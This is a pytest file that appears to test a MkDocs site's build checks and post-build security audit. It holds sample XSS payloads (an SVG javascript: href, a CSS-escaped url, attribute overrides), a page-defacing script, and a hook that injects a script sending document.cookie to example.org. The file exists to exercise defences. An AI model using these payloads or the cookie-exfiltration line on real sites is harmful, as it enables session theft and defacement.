"""Security through real builds: `mkdocs build` of a small site in tmp_path fails on attack pages with located
messages, and the post-build audit catches what a hook, a template or a content file slips into the built pages."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config
from mkdocs.exceptions import Abort

from assertions import locate
from conftest import resource_text

from projecth.core.security.site_audit import content_security_policy

RES = "networks/maths/bar-models.md"


def run_build(site, hooks: list[str] | None = None, caplog=None):
    mkdocs_yml = site.root / "mkdocs.yml"
    if hooks:
        text = mkdocs_yml.read_text(encoding="utf-8")
        mkdocs_yml.write_text(text.replace("hooks:\n", "hooks:\n" + "".join(f"  - {h}\n" for h in hooks)),
                              encoding="utf-8")
    config = load_config(str(mkdocs_yml), site_dir=str(site.root / "site"), strict=True)
    build(config)
    return Path(config.site_dir)


ATTACK_PAGES = {
    "fence-info": "```html run height=100\n<iframe src=\"x.html\"></iframe>\n```",
    "svg-set": 'Fish &amp; chips.\n\n<svg><set attributeName="href" to="&#106;avascript:alert(1)"/></svg>',
    "css-escape": '<p style="background: u\\72l(https://example.org/x.png)">x</p>',
    "attr-list-src": '![Bars](bars.png){: src="https://example.org/x.png" }',
    "hidden-attribution": '<span id="ph-attribution-text">Copy me instead</span>',
    "missing-anchor": "[See the overview](#overview)",
}


@pytest.mark.parametrize("name", list(ATTACK_PAGES))
def test_the_build_fails_on_an_attack_page_with_the_source_line(site, caplog, name):
    snippet = ATTACK_PAGES[name]
    text = resource_text(body=f"## Why\n\nSome text.\n\n{snippet}\n")
    site.write(RES, text)
    line, _ = locate(text, snippet.split("\n")[-1] if name == "svg-set" else snippet.split("\n")[0])
    if name == "fence-info":
        line, _ = locate(text, "<iframe")
    with pytest.raises(Abort):
        run_build(site)
    assert re.search(rf"content/{re.escape(RES)}:{line}:\d+: error: ", caplog.text), caplog.text
    assert not (site.root / "site" / "networks").exists()


def test_check_passed_means_the_build_passes_for_what_the_check_accepts(site):
    """Code on a page with a raw HTML block, a table, anchors: `projecth check` and the strict build agree."""
    body = ('## Why\n\n<div class="note">\nA box.\n</div>\n\nWrite `<script>` in a file of its own.\n\n'
            "```html\n<script>alert(1)</script>\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n[Back up](#why)\n")
    site.write(RES, resource_text(body=body))
    assert site.errors() == []
    built = run_build(site)
    page = (built / "networks/maths/bar-models/index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in page and "<script>alert(1)" not in page


HOOK_IFRAME = '''
def on_post_page(output, page, config):
    return output.replace("</article>", '<iframe src="https://example.org/"></iframe></article>', 1)
'''
HOOK_SCRIPT = '''
def on_post_page(output, page, config):
    return output.replace("</body>", "<script>fetch('https://example.org/?' + document.cookie)</script></body>", 1)
'''
HOOK_BASE = '''
def on_post_page(output, page, config):
    return output.replace("<head>", '<head><base href="https://example.org/">', 1)
'''


@pytest.mark.parametrize("hook, expected", [
    (HOOK_IFRAME, "a <iframe> element"),
    (HOOK_SCRIPT, "an inline <script> that is not one of the theme's own"),
    (HOOK_BASE, "a <base> element"),
])
def test_the_audit_catches_what_a_hook_injects(site, caplog, hook, expected):
    (site.root / "hooks" / "inject.py").write_text(hook, encoding="utf-8")
    with pytest.raises(Abort):
        run_build(site, hooks=["hooks/inject.py"])
    assert re.search(r"\n  index\.html:\d+: " + re.escape(expected), caplog.text), caplog.text
    assert not (site.root / "site" / "_headers").exists()


def test_a_content_file_that_replaces_the_theme_bundle_is_refused_before_anything_is_built(site, caplog, tmp_path):
    # The content check refuses the theme's folder (core/security/files.py reserved paths); the audit's exact script
    # paths are the second line of defence (tests/test_quality_audit.py).
    import material

    bundle = next((Path(material.__file__).parent / "templates/assets/javascripts").glob("bundle.*.min.js"))
    site.write(f"assets/javascripts/{bundle.name}", "document.body.innerHTML = 'defaced';\n")
    with pytest.raises(Abort):
        run_build(site)
    assert (f"content/assets/javascripts/{bundle.name}:1:1: error: `assets/javascripts/` is written by the theme"
            in caplog.text)
    assert "nothing was built" in caplog.text


def test_every_page_carries_the_policy_meta_first_in_head_in_step_with_headers(site):
    built = run_build(site)
    headers = (built / "_headers").read_text(encoding="utf-8")
    header_policy = re.search(r"Content-Security-Policy: (.*)", headers).group(1)
    pages = sorted(built.rglob("*.html"))
    assert pages
    for path in pages:
        text = path.read_text(encoding="utf-8")
        if "<script" not in text:
            continue  # the redirect pages for old addresses run nothing
        head = text[:text.index("</head>")]
        match = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', head)
        assert match, path
        assert match.start() < head.index("<script"), path
        meta = match.group(1)
        assert "unsafe-inline" not in meta and "'sha256-" in meta
        # The same directives as the header, less frame-ancestors (ignored in a meta), and only this page's hashes.
        hashes = re.findall(r"'sha256-[^']+'", meta)
        assert set(hashes) <= set(re.findall(r"'sha256-[^']+'", header_policy))
        assert meta == content_security_policy(hashes, meta=True)
    assert header_policy == content_security_policy(re.findall(r"'sha256-[^']+'", header_policy))
